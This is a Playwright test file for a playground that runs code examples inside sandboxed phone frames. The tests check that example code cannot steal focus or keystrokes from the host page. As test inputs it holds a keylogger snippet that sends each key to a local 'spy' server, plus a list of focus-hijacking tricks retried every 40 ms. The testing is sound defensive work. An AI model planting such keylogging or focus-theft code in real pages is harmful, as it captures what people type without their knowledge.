import { expect, type Page, test } from '@playwright/test';
import {
  attack,
  expectTried,
  fieldExample,
  html,
  openTarget,
  runEdit,
  target,
} from './support/attack.ts';
import { enterPhone, phone, screenOf } from './support/phones.ts';
import { type Spy, startSpy } from './support/spy.ts';

let spy: Spy;

test.beforeAll(async () => {
  spy = await startSpy();
});

test.afterAll(() => spy.stop());

/** Ways to take the focus, each tried again and again. */
const thefts: Readonly<Record<string, string>> = {
  'focus of a field': "document.querySelector('input').focus();",
  'focus of SVG':
    "const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); svg.tabIndex = 0; document.body.append(svg); svg.focus();",
  'focus of MathML':
    "const math = document.createElementNS('http://www.w3.org/1998/Math/MathML', 'math'); math.tabIndex = 0; document.body.append(math); math.focus();",
  'the prototype of another realm':
    "HTMLElement.prototype.focus.call(document.querySelector('input'));",
  'selecting text': "document.querySelector('input').select();",
  'a range of the selection': "document.querySelector('input').setSelectionRange(0, 1);",
  'a label': `${html('<label id="l">a<input></label>')}document.querySelector('#l').click();`,
  'a modal dialog': `${html('<dialog><input autofocus></dialog>')}document.querySelector('dialog').showModal();`,
  'a dialog': `${html('<dialog><input autofocus></dialog>')}document.querySelector('dialog').show();`,
  'a popover': `${html('<div popover><input autofocus></div>')}document.querySelector('[popover]').showPopover();`,
  autofocus: html('<input autofocus><button autofocus>a</button>'),
  'an address of its own': `${html('<div id="here" tabindex="0">a</div>')}location.hash = 'here';`,
  'a nested frame': `${html('<iframe srcdoc="<input autofocus>"></iframe>')}document.querySelector('iframe').focus(); document.querySelector('iframe').contentWindow.focus();`,
  'its window': 'window.focus(); self.focus();',
  editing:
    "document.body.contentEditable = 'true'; document.body.focus(); document.designMode = 'on';",
  'full screen': 'document.documentElement.requestFullscreen().catch(() => undefined);',
  'a captured pointer': 'document.documentElement.setPointerCapture(1);',
};

/** Tells the page and the spy of every key that reaches the example. */
const LISTEN =
  "addEventListener('keydown', (event) => { console.log('STOLEN ' + event.key); new Image().src = 'SPY/stolen?' + event.key; }, true);";

/** Runs hostile statements that know where the spy is. */
const spyOn = (page: Page, statements: string) =>
  attack(page, statements.replaceAll('SPY', spy.origin));

/** Opens the frame's own door from inside, then tries a way every 40 ms, whatever it throws. */
const insist = (statements: string) => `${LISTEN}
const again = () => { try { document.documentElement.inert = false; ${statements} } catch {} };
again();
setInterval(again, 40);
await new Promise((next) => setTimeout(next, 200));`;

function hearStolen(page: Page): string[] {
  const stolen: string[] = [];
  page.on('console', (message) => {
    if (message.text().includes('STOLEN')) {
      stolen.push(message.text());
    }
  });
  return stolen;
}

/** Waits until a theft was tried: in vain, or with the end of the example. */
async function expectTriedOrStopped(page: Page): Promise<void> {
  const example = phone(page, target.name);
  const tried = screenOf(example).getByText(/결과 (뚫림|막힘)/);
  const isOver = async () =>
    (await example.getAttribute('data-state')) === 'stuck' || (await tried.count()) > 0;
  await expect.poll(isOver).toBe(true);
}

for (const [way, statements] of Object.entries(thefts)) {
  test(`an example cannot take the focus from the search by ${way}`, async ({ page }) => {
    const stolen = hearStolen(page);
    await openTarget(page);
    await spyOn(page, insist(statements));
    await expectTriedOrStopped(page);
    await page.getByRole('button', { name: /검색/ }).first().click();
    const field = page.getByRole('combobox');
    await expect(field).toBeFocused();
    await field.pressSequentially('secret words', { delay: 30 });
    await expect(field).toHaveValue('secret words');
    await expect(field).toBeFocused();
    expect(stolen).toEqual([]);
    expect(spy.heard).toEqual([]);
  });
}

test('an example that takes the focus while its reader types is ended, and gives it back', async ({
  page,
}) => {
  const stolen = hearStolen(page);
  await openTarget(page);
  const theft = "document.documentElement.inert = false; document.querySelector('input').focus();";
  await spyOn(page, `${LISTEN} setTimeout(() => { ${theft} }, 1500);`);
  await expectTried(page);
  await page.getByRole('button', { name: /검색/ }).first().click();
  const field = page.getByRole('combobox');
  await field.pressSequentially('what a reader types for a while', { delay: 100 });
  await expect(phone(page, target.name)).toHaveAttribute('data-state', 'stuck');
  await expect(field).toBeFocused();
  // The key that is on its way when the focus goes is the most there is to be had.
  expect(stolen.length).toBeLessThanOrEqual(1);
  expect(spy.heard, 'nothing leaves the frame').toEqual([]);
});

test('an honest example with a field that wants the focus runs on without it', async ({ page }) => {
  await openTarget(page);
  await runEdit(
    page,
    `import { TextInput } from 'react-native';
export default function Honest() { return <TextInput autoFocus aria-label="먼저" />; }`,
  );
  const editor = phone(page, target.name).getByRole('textbox', { name: /코드/ });
  await expect(screenOf(phone(page, target.name)).getByLabel('먼저')).toBeVisible();
  await expect(editor).toBeFocused();
  await expect(phone(page, target.name)).toHaveAttribute('data-state', 'running');
});

test('a mouse that rests on a phone opens it to nothing', async ({ page }) => {
  const stolen = hearStolen(page);
  await openTarget(page);
  await spyOn(page, `${LISTEN} document.querySelector('input').focus();`);
  await expectTried(page);
  await phone(page, target.name).locator('[data-screen]').hover();
  await page.keyboard.type('abc', { delay: 30 });
  expect(stolen).toEqual([]);
});

test('an example scrolls nothing but itself', async ({ page }) => {
  await openTarget(page);
  await attack(
    page,
    `${html('<div style="height:9000px"></div><p id="far">far</p>')}
    const far = document.querySelector('#far');
    const again = () => {
      try { far.scrollIntoView(); far.scrollIntoViewIfNeeded(); find('far'); location.hash = 'far'; } catch {}
    };
    again();
    setInterval(again, 40);`,
  );
  await expectTried(page);
  await page.evaluate(() => window.scrollTo({ top: 0, behavior: 'instant' }));
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => window.scrollY)).toBe(0);
});

test.describe('a phone that its reader enters', () => {
  const app = `import { useState } from 'react';
import { Pressable, Text, TextInput, View } from 'react-native';
export default function App() {
  const [times, setTimes] = useState(0);
  const [words, setWords] = useState('');
  return <View style={{ padding: 60, paddingTop: 20, gap: 2 }}>
    <Pressable onPress={() => setTimes(times + 1)}><Text style={{ fontSize: 40 }}>눌러</Text></Pressable>
    <Text>{'누른 횟수 ' + times}</Text>
    <TextInput aria-label="칸" onChangeText={setWords} style={{ height: 30 }} />
    <Text>{'쓴 글 ' + words}</Text>
  </View>;
}`;

  test.beforeEach(async ({ page }) => {
    await openTarget(page);
    await runEdit(page, app);
    await expect(screenOf(phone(page, target.name)).getByText('누른 횟수 0')).toBeVisible();
  });

  test('by a press takes that press', async ({ page }) => {
    const screen = screenOf(phone(page, target.name));
    await phone(page, target.name).locator('[data-screen]').scrollIntoViewIfNeeded();
    const { x, y } = (await phone(page, target.name).locator('[data-screen]').boundingBox()) ?? {
      x: 0,
      y: 0,
    };
    await page.mouse.click(x + 100 * 0.82, y + 85 * 0.82);
    await expect(screen.getByText('누른 횟수 1')).toBeVisible();
    await page.mouse.click(x + 100 * 0.82, y + 85 * 0.82);
    await expect(screen.getByText('누른 횟수 2')).toBeVisible();
  });

  test('loses no press of a reader who presses on while it opens', async ({ page }) => {
    const example = phone(page, target.name);
    const button = screenOf(example).getByText('눌러');
    await button.scrollIntoViewIfNeeded();
    const box = await button.boundingBox();
    for (let press = 0; press < 12; press++) {
      await page.mouse.click((box?.x ?? 0) + 10, (box?.y ?? 0) + 10);
    }
    await expect(screenOf(example).getByText('누른 횟수 12')).toBeVisible();
    await expect(example.locator('.zs-play-enter')).toBeHidden();
  });

  test('by a press on a field lets the reader type', async ({ page }) => {
    const screen = screenOf(phone(page, target.name));
    await phone(page, target.name).locator('[data-screen]').scrollIntoViewIfNeeded();
    const field = screen.getByRole('textbox', { name: '칸' });
    const box = await field.boundingBox();
    await page.mouse.click((box?.x ?? 0) + 20, (box?.y ?? 0) + 10);
    // No reader types in the moment that the phone takes to open.
    await expect(field).toBeFocused();
    await page.keyboard.type('안녕');
    await expect(screen.getByText('쓴 글 안녕')).toBeVisible();
  });

  test('with Tab is entered and left with Tab', async ({ page }) => {
    const example = phone(page, target.name);
    const screen = screenOf(example);
    await example.getByRole('button', { name: /들어가기/ }).focus();
    await page.keyboard.press('Tab');
    await expect(screen.getByText('눌러').locator('..')).toBeFocused();
    await page.keyboard.press('Enter');
    await expect(screen.getByText('누른 횟수 1')).toBeVisible();
    await page.keyboard.press('Tab');
    await page.keyboard.press('Tab');
    // The frame is of another process, which tells the page of the key in its own time.
    await expect(example.locator('iframe')).toHaveAttribute('inert');
    expect(await page.evaluate(() => document.activeElement?.tagName)).not.toBe('IFRAME');
  });

  test('is closed again once the reader presses elsewhere', async ({ page }) => {
    const example = phone(page, target.name);
    await example.getByRole('button', { name: /들어가기/ }).press('Enter');
    await expect(example.locator('iframe')).not.toHaveAttribute('inert');
    await page.getByRole('heading', { level: 1 }).click();
    await expect(example.locator('iframe')).toHaveAttribute('inert');
  });
});

test('a press that the browser still gives to the page once a phone is open lets its reader type', async ({
  page,
}) => {
  await openTarget(page);
  await runEdit(page, fieldExample);
  const example = phone(page, target.name);
  const field = screenOf(example).getByLabel('칸');
  await expect(field).toBeVisible();
  await field.scrollIntoViewIfNeeded();
  const box = await field.boundingBox();
  // A browser that is slow to draw gives the frame's place to the page. Its padding is always the page's.
  await example.locator('iframe[data-drawn]').evaluate((frame) => {
    frame.style.cssText += 'box-sizing: border-box; padding-top: 50px';
  });
  await enterPhone(example);
  await page.mouse.click((box?.x ?? 0) + 20, (box?.y ?? 0) + 8);
  await expect(field).toBeFocused();
  await page.keyboard.type('안녕');
  await expect(field).toHaveValue('안녕');
});
